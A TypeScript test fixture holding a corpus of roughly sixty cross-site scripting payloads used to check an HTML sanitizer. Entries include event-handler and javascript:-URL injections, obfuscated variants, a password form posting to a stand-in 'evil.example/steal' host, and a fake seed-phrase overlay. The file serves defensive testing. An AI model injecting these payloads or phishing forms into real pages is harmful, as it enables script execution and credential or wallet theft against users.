/** A clip the app serves (the seeded notice's), so a hostile video that survives would really load and play. */
const CLIP = '/media/btcw-test-card.mp4';

/**
 * The media origin the unit test and the e2e journey treat as allowed (`BTCW_MEDIA_ORIGINS`), so the
 * corpus can try addresses that only look like it.
 */
export const XSS_MEDIA_ORIGIN = 'https://media.example.com';

/**
 * Hostile HTML a compromised admin account or a tampered response could send. Shared by the unit
 * test (sanitizer output) and the e2e journey (rendered in a real browser). Each one calls
 * `window.__xss(n)` if it ever runs; a form or an input appearing is a failure too. Every element is
 * closed: an open `<video>` would hide whatever follows it as its fallback content.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>window.__xss(1)</script>',
  '<img src=x onerror="window.__xss(2)">',
  '<img src="/images/ads/btcw-staking.svg" onload="window.__xss(3)">',
  '<a href="javascript:window.__xss(4)">click me</a>',
  '<a href="JaVaScRiPt:window.__xss(5)">mixed case</a>',
  '<a href="&#106;avascript:window.__xss(6)">entity</a>',
  '<a href="data:text/html,<script>window.__xss(7)</script>">data link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=">',
  '<iframe src="javascript:window.__xss(9)"></iframe>',
  '<iframe srcdoc="<script>window.__xss(10)</script>"></iframe>',
  '<svg onload="window.__xss(11)"><circle r="5"/></svg>',
  '<svg><script>window.__xss(12)</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss(13)"><text y="20">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss(14)">',
  '<math href="javascript:window.__xss(15)">math</math>',
  '<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Password"><button>Log in</button></form>',
  '<input type="password" autofocus onfocus="window.__xss(17)">',
  '<textarea autofocus onfocus="window.__xss(18)"></textarea><select><option>x</option></select>',
  '<button formaction="javascript:window.__xss(19)">Go</button>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Session expired, enter your seed phrase</div>',
  '<style>body{display:none}</style><p>styled</p>',
  '<p style="background:url(javascript:window.__xss(22))">bg</p>',
  '<details open ontoggle="window.__xss(23)"><summary>x</summary></details>',
  '<body onload="window.__xss(24)">',
  '<object data="javascript:window.__xss(25)"></object><embed src="javascript:window.__xss(25)">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(26)">',
  '<base href="javascript:window.__xss(27)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<a href="https://example.com" onclick="window.__xss(29)" onmouseover="window.__xss(29)">events</a>',
  '<img src="https://example.com/a.png" srcset="javascript:window.__xss(30) 1x">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss(31)>">',
  '<template><img src=x onerror="window.__xss(32)"></template>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="http://example.com/">plain http</a>',
  '<video><source onerror="window.__xss(35)"></video><audio src=x onerror="window.__xss(35)">',
  '<isindex type=image src=1 onerror="window.__xss(36)">',
  '<p id="__next" class="x" data-x="y" name="login">attributes</p>',
  '<img src="\\\\evil.example/a.png">',
  '<a href=" javascript:window.__xss(39)">leading space</a>',
  '<marquee onstart="window.__xss(40)">m</marquee>',
  // Videos: only their source, poster and a few playback wishes survive, and never with sound on their own.
  `<video src="${CLIP}" autoplay onloadstart="window.__xss(41)" onplay="window.__xss(41)" onloadedmetadata="window.__xss(41)"></video>`,
  '<video src="javascript:window.__xss(42)"></video><video src="JaVaScRiPt:window.__xss(42)"></video>',
  '<video><source src="javascript:window.__xss(43)" type="video/mp4"></video>',
  '<video src="data:video/mp4;base64,AAAA"></video><video><source src="data:text/html,<script>window.__xss(44)</script>"></video>',
  `<video src="${CLIP}" poster="javascript:window.__xss(45)"></video><video src="${CLIP}" poster="data:image/svg+xml,<svg onload=window.__xss(45)>"></video>`,
  `<video src="${CLIP}" srcdoc="<script>window.__xss(46)</script>"></video>`,
  `<video src="${CLIP}" autoplay loop>autoplay with sound</video>`,
  '<video src="https://evil.example/a.mp4"></video><video><source src="https://evil.example/b.mp4" type="video/mp4"></video>',
  `<video src="//evil.example/a.mp4"></video><video src="/\\evil.example/a.mp4"></video><video src="http://media.example.com/a.mp4"></video>`,
  `<video src="${XSS_MEDIA_ORIGIN}.evil.example/a.mp4"></video><video src="https://user:pw@media.example.com/a.mp4"></video><video src="https://evil.example/?${XSS_MEDIA_ORIGIN}"></video>`,
  `<video src="${CLIP}"><track kind="subtitles" src="javascript:window.__xss(51)" default><track kind="metadata" src="data:text/vtt,WEBVTT" oncuechange="window.__xss(51)"></video>`,
  `<video src="${CLIP}" controls controlslist="nodownload" crossorigin="use-credentials" onerror="window.__xss(52)" onfocus="window.__xss(52)" tabindex="0" autofocus></video>`,
  `<source src="${CLIP}" onerror="window.__xss(53)"><img src=x onerror="window.__xss(53)">`,
  `<video src="${CLIP}" width="100%" height="99999" style="position:fixed;inset:0;z-index:99999" class="x" id="__next"></video>`,
  `<audio src="${CLIP}" autoplay onplay="window.__xss(55)"></audio><audio controls><source src="${CLIP}"></audio>`,
  `<video src="${CLIP}"><source src="/media/b.mp4" type="text/html"></video>`,
  '<video src=" javascript:window.__xss(57)"></video><video src="&#106;avascript:window.__xss(57)"></video>',
  '<p autoplay muted poster="javascript:window.__xss(58)" type="text/html" src="javascript:window.__xss(58)">media attributes off a video</p>',
  `<video src="${CLIP}" muted autoplay="javascript:window.__xss(59)" loop="onerror=window.__xss(59)"><p onclick="window.__xss(59)">fallback</p></video>`,
  `<video src="${CLIP}" onpause="window.__xss(60)" onended="window.__xss(60)" ontimeupdate="window.__xss(60)" onvolumechange="window.__xss(60)" muted autoplay></video>`,
];
